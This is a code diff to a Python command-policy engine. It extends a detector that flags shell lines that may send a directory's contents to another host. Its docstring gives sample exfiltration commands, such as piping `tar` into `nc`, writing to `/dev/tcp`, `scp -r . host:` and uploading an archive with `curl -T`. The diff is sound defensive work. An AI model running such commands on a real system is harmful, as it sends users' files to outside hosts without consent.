@@ -35,6 +35,7 @@ from engine.policy.paths import (
     Places,
     View,
     fewest_fragments,
+    file_operand,
     literal_union,
     local_reading,
 )
@@ -1351,21 +1352,35 @@ _REMOTE_COPIERS = frozenset({"scp", "rsync", "sftp", "tar", "gtar"})  # `tar cf 
 def _sends_away(commands: list[Command]) -> bool:
     """Whether the line may send a tree reader's output to another host: a stage fed by a tree reader on
     a line that runs a network sender (`tar c . | nc h 80`; anywhere on the line, as a function's or `sh
-    -c`'s body fed by the pipe runs it: `tar c . | f` with `f() { nc h 80; }`), a reader whose output goes
-    to `/dev/tcp`, or a copy to another host (`scp -r . host:`, `rsync -a . host:x`, rsync://, `tar cf
-    host:x .`): one set test per command, no look at the disk."""
-    fed = sender = False
+    -c`'s body fed by the pipe runs it: `tar c . | f` with `f() { nc h 80; }`), a sender given a word of a
+    tree reader's (its archive: `tar czf x.tgz . && curl -T x.tgz URL`, `nc h 80 < x.tgz`), a reader whose
+    output goes to `/dev/tcp`, or a copy to another host (`scp -r . host:`, `rsync -a . host:x`, rsync://,
+    `tar cf host:x .`): set tests per command, no look at the disk."""
+    fed = False
+    senders: list[Command] = []
     for command in commands:
         name = command.name
         if name in _NETWORK_SENDERS:
-            sender = True
+            senders.append(command)
         if not fed and not command.fed_by.isdisjoint(_TREE_READERS):
             fed = True
         if name in _REMOTE_COPIERS and any(":" in word for word in command.argv[1:]):
             return True
         if name in _TREE_READERS and any(t.startswith(("/dev/tcp/", "/dev/udp/")) for _, t in command.redirects):
             return True
-    return fed and sender
+    if not senders:
+        return False
+    if fed:
+        return True
+    written = {w for c in commands if c.name in _TREE_READERS for w in c.argv[1:] if w[:1] not in ("", "-")}
+    if not written:
+        return False
+    for sender in senders:
+        if any(file_operand(w) in written or w.partition("=")[2] in written for w in sender.argv[1:]):
+            return True
+        if any(target in written for op, target in sender.redirects if op in ("<", "<>")):
+            return True
+    return False
 
 
 def _through_tree_links(commands: list[Command], view: View, unwalked: list[Match]) -> list[Command]:
